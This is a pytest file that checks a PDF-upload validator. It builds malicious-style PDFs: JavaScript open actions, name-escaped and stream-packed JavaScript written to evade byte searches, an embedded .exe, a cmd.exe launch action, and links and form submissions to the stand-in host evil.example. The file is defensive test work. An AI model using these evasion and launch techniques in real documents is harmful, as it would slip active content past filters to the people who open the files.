"""The PDF check parses the file (pikepdf/qpdf): active content is found however it is spelled or packed.

Each PDF here is built with pikepdf the way an attacker would: name escapes (`/J#61vaScript`),
the action inside a compressed object stream, links out of the document."""

import io

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from stafett_app.domain.errors import ValidationFailed
from stafett_app.services import notes


def _save(pdf: pikepdf.Pdf, *, object_streams: bool = False) -> bytes:
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    pdf.save(out, object_stream_mode=mode, compress_streams=object_streams, qdf=False)
    return out.getvalue()


def _blank() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    return pdf


def _javascript_action() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('hei')"))


def plain_pdf() -> bytes:
    return _save(_blank())


def open_action_javascript() -> bytes:
    pdf = _blank()
    pdf.Root.OpenAction = pdf.make_indirect(_javascript_action())
    return _save(pdf)


def name_escaped_open_action() -> bytes:
    """/Open#41ction and /J#61vaScript: the same names to a PDF reader, other bytes to a regex."""
    raw = open_action_javascript()
    escaped = raw.replace(b"/OpenAction", b"/Open#41ction").replace(b"/JavaScript", b"/J#61vaScript")
    escaped = escaped.replace(b"/JS ", b"/J#53 ").replace(b"/JS(", b"/J#53(")
    assert b"/OpenAction" not in escaped and b"/JavaScript" not in escaped
    return escaped


def javascript_in_object_stream() -> bytes:
    pdf = _blank()
    names = Dictionary(JavaScript=Dictionary(Names=Array([String("start"), pdf.make_indirect(_javascript_action())])))
    pdf.Root.Names = pdf.make_indirect(names)
    raw = _save(pdf, object_streams=True)
    assert b"JavaScript" not in raw  # packed: invisible to a byte search
    return raw


def embedded_file_escaped() -> bytes:
    pdf = _blank()
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ not really a program", filename="readme.exe")
    pdf.attachments["readme.exe"] = spec
    return _save(pdf).replace(b"/EmbeddedFiles", b"/Embedded#46iles")


def _with_annotation(annotation: Dictionary) -> bytes:
    pdf = _blank()
    pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))
    return _save(pdf)


def uri_link() -> bytes:
    action = Dictionary(S=Name.URI, URI=String("https://evil.example/track?child=emma"))
    return _with_annotation(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 100, 100], A=action))


def launch_action() -> bytes:
    action = Dictionary(S=Name.Launch, F=String("cmd.exe"))
    return _with_annotation(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 100, 100], A=action))


def submit_form() -> bytes:
    action = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect"))
    return _with_annotation(Dictionary(Type=Name.Annot, Subtype=Name.Widget, Rect=[0, 0, 100, 100], A=action))


def page_additional_actions() -> bytes:
    pdf = _blank()
    pdf.pages[0].AA = Dictionary(O=_javascript_action())
    return _save(pdf)


def rich_media() -> bytes:
    return _with_annotation(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 100, 100]))


def xfa_form() -> bytes:
    pdf = _blank()
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)
    return _save(pdf)


def test_a_plain_pdf_passes():
    notes.check_pdf(plain_pdf())


@pytest.mark.parametrize(
    "build",
    [
        open_action_javascript,
        name_escaped_open_action,
        javascript_in_object_stream,
        embedded_file_escaped,
        uri_link,
        launch_action,
        submit_form,
        page_additional_actions,
        rich_media,
        xfa_form,
    ],
)
def test_active_content_is_refused_however_it_is_written(build):
    with pytest.raises(ValidationFailed) as refused:
        notes.check_pdf(build())
    assert refused.value.errors == {"attachment": "error.pdf_active_content"}


def test_a_broken_or_locked_pdf_is_not_a_pdf():
    broken = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"  # no pages
    locked = io.BytesIO()
    _blank().save(locked, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    for raw in (broken, locked.getvalue()):
        with pytest.raises(ValidationFailed) as refused:
            notes.check_pdf(raw)
        assert refused.value.errors == {"attachment": "error.pdf_not_pdf"}
